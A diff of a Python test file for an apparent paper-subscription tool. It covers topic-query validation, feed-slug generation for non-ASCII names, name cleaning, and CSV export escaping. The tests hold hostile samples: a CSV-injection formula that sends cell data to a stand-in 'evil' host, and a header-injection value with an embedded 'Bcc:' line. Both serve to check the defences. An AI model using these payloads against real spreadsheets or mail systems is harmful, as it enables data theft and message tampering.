@@ -102,7 +102,7 @@ def test_names_keep_their_zero_width_joiners_and_lose_controls(name):
     assert clean_name(f"{name}\r\nBcc: x\x00\u202e") == f"{name} Bcc: x"
 
 
-@pytest.mark.parametrize("query", ["the of and", "a", '"of the"', "the -video", "meaning: in the"])
+@pytest.mark.parametrize("query", ["the of and", "a", "the -video", "meaning: in the", "the OR (of -zebra)"])
 def test_a_topic_of_only_common_words_is_refused_when_saved(query):
     """"the of and" matched 48 of 102 papers and "a" 100: nothing in it tells papers apart."""
     from paperwire.subscribers import make_topic
@@ -111,7 +111,8 @@ def test_a_topic_of_only_common_words_is_refused_when_saved(query):
         make_topic(None, query)
 
 
-@pytest.mark.parametrize("query", ["IT", "the transformer", "like:2403.06212", "*", "US -the"])
+@pytest.mark.parametrize("query", ["IT", "the transformer", "like:2403.06212", "*", "US -the", "author:He",
+                                   '"to be or not to be"', "title:the"])
 def test_a_topic_with_one_content_word_or_an_example_is_kept(query):
     from paperwire.subscribers import make_topic
 
@@ -126,6 +127,11 @@ def test_public_topics_named_in_other_scripts_get_a_feed_name(run_cli):
     slugs = [topic["slug"] for topic in json.loads(run_cli("topics", "--json").stdout)]
     assert len(set(slugs)) == 2 and all(slug.startswith("topic-") for slug in slugs)
     assert run_cli("topics", "add", "!!!", "zeta").exit_code == 1
+    for name in ("Русский NLP", "中文 NLP"):  # not both "nlp"
+        assert run_cli("topics", "add", name, "zeta").exit_code == 0, name
+    assert run_cli("topics", "add", "Café", "zeta").exit_code == 0  # spelt in ASCII: "cafe"
+    slugs = [topic["slug"] for topic in json.loads(run_cli("topics", "--json").stdout)]
+    assert len(set(slugs)) == 5 and sum(slug.startswith("nlp-") for slug in slugs) == 2 and "cafe" in slugs
 
 
 def test_public_topic_names_must_give_distinct_feed_names(run_cli):
@@ -154,12 +160,12 @@ def test_exported_csv_cells_never_start_a_formula_and_import_back_as_written(run
     opens the export (CSV injection): such cells are written after a ', and imported without."""
     name = '=HYPERLINK("http://evil/?"&A1;"x")'
     assert run_cli("subscribe", "eve@example.org", "--name", name, "--topic", "@home=-video diffusion",
-                   "--topic", "+plus=scaling").exit_code == 0
+                   "--topic", "+plus=scaling", "--topic", "'quoted=scaling").exit_code == 0
     before = readers(run_cli)
     exported = tmp_path / "readers.csv"
     assert run_cli("subscribers", "export", "-o", exported).exit_code == 0
     cells = [cell for row in csv.reader(exported.read_text(encoding="utf-8").splitlines()) for cell in row]
-    assert not [cell for cell in cells if cell[:1] in "=+-@"]
+    assert not [cell for cell in cells if cell and cell[0] in "=+-@"] and "''quoted" in cells
     assert "'=HYPERLINK(\"http://evil/?\"&A1;\"x\")" in cells and "'-video diffusion" in cells and "'@home" in cells
     other = new_db(tmp_path / "other.db")
     assert run_cli("--db", other, "subscribers", "import", exported, db=False).exit_code == 0
